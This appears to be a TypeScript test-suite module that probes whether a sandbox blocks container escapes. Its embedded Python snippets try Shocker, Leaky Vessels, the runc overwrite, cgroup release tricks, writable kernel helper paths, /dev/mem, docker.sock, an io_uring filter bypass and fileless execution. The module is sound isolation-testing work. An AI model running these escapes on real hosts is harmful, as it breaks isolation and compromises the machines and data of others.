import type { Family, NotProvable, OnlyAs } from './attack.js';
import { climbed, native, OWN_PROGRAM } from './preludes.js';

const ONLY_ROOT: OnlyAs = { onlyAs: 'root', because: 'it takes the capabilities of root' };
const KERNEL: NotProvable = {
  notProvable: 'not every kernel lets anybody do so, or has it at all',
};
const DOORS = { of: 'ways out', upTo: 20, atMost: 0 };

/** Opens files for writing and writes nothing: to open them is enough to own the machine. */
function opening(paths: readonly string[]): string {
  return climbed(`
import os
taken = 0
for path in ${JSON.stringify(paths)}:
    try:
        os.close(os.open(path, os.O_WRONLY))
        taken += 1
    except OSError: pass
print("took", taken)
`);
}

/** Runs a try in a child where there can be one, because it would change the process that does it. */
const IN_CHILD = `
def count(*tries):
    reader, writer = os.pipe()
    try: pid = os.fork()
    except OSError: pid = None
    taken = 0
    if not pid:
        for each in tries:
            try: taken += each() >= 0
            except OSError: pass
        if pid is None: return taken
        os.write(writer, b"%d" % taken)
        os._exit(0)
    os.close(writer)
    taken = int(os.read(reader, 100) or 0)
    os.waitpid(pid, 0)
    return taken
`;

/** Escapes from containers that have had names, and doors of the kernel that led to others. */
export const escapes: Family = {
  name: 'escapes by name',
  attacks: [
    {
      name: 'Shocker: opens a file by its handle (CVE-2014-3519 and its like)',
      kind: 'boundary',
      aims: ['shared-file'],
      live: ONLY_ROOT,
      code: native(`
handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
mount = ctypes.c_int()
syscall("name_to_handle_at", -100, CANARY["file"].encode(), handle, ctypes.byref(mount), 0)
root = libc.open(b"/", os.O_RDONLY)
here = libc.open(b".", os.O_RDONLY)
for base in (here, root):
    fd = syscall("open_by_handle_at", base, handle, 0)
    if fd >= 0: print(os.read(fd, 4096))
`),
    },
    {
      name: 'Leaky Vessels: goes up from any folder that was left open (CVE-2024-21626)',
      kind: 'boundary',
      aims: ['shared-file'],
      code: climbed(`
import os
held = os.open(".", os.O_RDONLY)
for fd in range(3, 1024):
    for path in ("../" * 20 + CANARY["file"].lstrip("/"), CANARY["file"].lstrip("/")):
        try: print(os.read(os.open(path, os.O_RDONLY, dir_fd=fd), 4096))
        except OSError: pass
`),
    },
    {
      name: 'overwrites the program that runs it (CVE-2019-5736)',
      kind: 'boundary',
      aims: ['took'],
      taking: DOORS,
      live: { notProvable: 'no kernel lets a program be written while it runs, as this one does' },
      code: opening(['/proc/self/exe', '/proc/1/exe', '/proc/self/map_files']),
    },
    {
      name: 'has the kernel call a program when a group is empty (CVE-2022-0492)',
      kind: 'boundary',
      aims: ['took'],
      taking: DOORS,
      live: KERNEL,
      code: native(`${IN_CHILD}
os.makedirs("group", exist_ok=True)
def mounted():
    libc.unshare(0x10000000)
    if libc.unshare(0x20000 | 0x2000000) < 0: return -1
    return libc.mount(b"none", b"group", b"cgroup", 0, b"rdma")
print("took", count(mounted))
`),
    },
    {
      name: 'names the program that gets core dumps, and others that the kernel calls',
      kind: 'boundary',
      aims: ['took'],
      taking: DOORS,
      live: ONLY_ROOT,
      code: opening([
        '/proc/sys/kernel/core_pattern',
        '/proc/sys/kernel/modprobe',
        '/sys/kernel/uevent_helper',
        '/proc/sys/fs/binfmt_misc/register',
      ]),
    },
    {
      name: 'opens the memory of the machine and the keys that reset it',
      kind: 'boundary',
      aims: ['took'],
      taking: DOORS,
      live: ONLY_ROOT,
      code: opening(['/dev/mem', '/dev/kmem', '/dev/port', '/dev/kmsg', '/proc/sysrq-trigger']),
    },
    {
      name: 'makes devices of its own, for disks and for the log of the kernel',
      kind: 'boundary',
      aims: ['took'],
      taking: DOORS,
      live: ONLY_ROOT,
      code: native(`
taken = 0
for kind, device in ((0o20600, (1, 11)), (0o60600, (254, 0)), (0o60600, (259, 0)), (0o60600, (8, 0))):
    if syscall("mknodat", -100, b"device", kind, os.makedev(*device)) == 0:
        try:
            os.close(os.open("device", os.O_RDONLY))
            taken += 1
        except OSError: pass
        os.unlink("device")
print("took", taken)
`),
    },
    {
      name: 'enters the namespaces of the first process',
      kind: 'boundary',
      aims: ['took'],
      taking: DOORS,
      live: { notProvable: 'where this suite runs in a container itself, even root may not' },
      only: { environment: 'local', because: 'a container’s first process is in its own' },
      code: native(`${IN_CHILD}
def entered(name):
    fd = os.open("/proc/1/ns/" + name, os.O_RDONLY)
    return syscall("setns", fd, 0)
print("took", count(*[lambda name=name: entered(name) for name in ("uts", "ipc", "net")]))
`),
    },
    {
      name: 'becomes root in a user namespace of its own',
      kind: 'boundary',
      aims: ['took'],
      taking: DOORS,
      live: KERNEL,
      code: native(`${IN_CHILD}
print("took", count(lambda: syscall("unshare", 0x10000000)))
`),
    },
    {
      name: 'mounts over its own root, and leaves it with chroot',
      kind: 'boundary',
      aims: ['took'],
      taking: DOORS,
      live: ONLY_ROOT,
      code: native(`${IN_CHILD}
os.makedirs("empty", exist_ok=True)
def mounted():
    if libc.unshare(0x20000) < 0: return -1
    libc.mount(b"none", b"/", None, 0x44000, None)
    return libc.mount(b"none", b"empty", b"tmpfs", 0, None)
print("took", count(mounted, lambda: libc.chroot(b"empty")))
`),
    },
    {
      name: 'becomes root again',
      kind: 'boundary',
      aims: ['took'],
      taking: DOORS,
      live: ONLY_ROOT,
      code: native(`
def is_root():
    for change in (lambda: os.setresuid(0, 0, 0), lambda: os.setuid(0), lambda: os.seteuid(0)):
        try: change()
        except OSError: pass
    return 0 in os.getresuid()
print("took", int(is_root()))
`),
      only: {
        environment: 'local',
        because: 'on gVisor and in containers nobody has been root, which tests/docker checks',
      },
    },
    {
      name: 'talks to the engine that could start a container with everything',
      kind: 'boundary',
      aims: ['took'],
      taking: DOORS,
      live: { notProvable: 'it takes an engine at one of the usual places' },
      code: climbed(`
import os, socket
taken = 0
for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock",
             "/run/podman/podman.sock", "/run/crio/crio.sock", "/run/user/1000/docker.sock"):
    try:
        socket.socket(socket.AF_UNIX).connect(path)
        taken += 1
    except OSError: pass
print("took", taken)
`),
    },
    ...[
      ['catches page faults of the kernel', 'syscall("userfaultfd", 0)'],
      [
        'loads a program into the kernel',
        'syscall("bpf", 0, ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 8, 1) + bytes(112)), 120)',
      ],
      [
        'counts what the processor does for others',
        'syscall("perf_event_open", ctypes.create_string_buffer(struct.pack("IIQ", 1, 128, 0) + bytes(112)), -1, 0, -1, 0)',
      ],
      [
        'keeps keys that all of a user share',
        'syscall("add_key", b"user", b"canary", b"x", 1, -3)',
      ],
    ].map(([name = '', call = '']) => ({
      name,
      kind: 'boundary' as const,
      aims: ['took'] as const,
      taking: DOORS,
      live: KERNEL,
      code: native(`print("took", int(${call} >= 0))\n`),
    })),
    {
      name: 'opens a file through io_uring, past any filter of calls',
      kind: 'boundary',
      aims: ['shared-file'],
      live: KERNEL,
      // One entry of submission, number 18: openat. The offsets are those of struct io_uring_params.
      code: native(`
import mmap
settings = ctypes.create_string_buffer(120)
ring = syscall("io_uring_setup", 4, settings)
offsets = struct.unpack_from("30I", settings)
entries, tail, array, completions = offsets[0], offsets[11], offsets[16], offsets[25]
shared = mmap.mmap(ring, array + entries * 4, offset=0)
queue = mmap.mmap(ring, entries * 64, offset=0x10000000)
done = mmap.mmap(ring, completions + 2 * entries * 16, offset=0x8000000)
path = ctypes.create_string_buffer(CANARY["file"].encode())
queue[:64] = struct.pack("BBHiQQIIQ", 18, 0, 0, -100, 0, ctypes.addressof(path), 0, 0, 7) + bytes(24)
shared[array : array + 4] = struct.pack("I", 0)
shared[tail : tail + 4] = struct.pack("I", 1)
syscall("io_uring_enter", ring, 1, 1, 1, 0, 0)
fd = struct.unpack_from("Qi", done, completions)[1]
print(os.read(fd, 4096))
`),
    },
    {
      name: 'runs a program that has no file',
      kind: 'boundary',
      aims: ['kept-file'],
      code: native(`${OWN_PROGRAM}
fd = syscall("memfd_create", b"none", 0)
os.write(fd, own_program(CANARY["kept"]))
syscall("execveat", fd, b"", (ctypes.c_char_p * 2)(b"own", None), None, 0x1000)
`),
    },
  ],
};
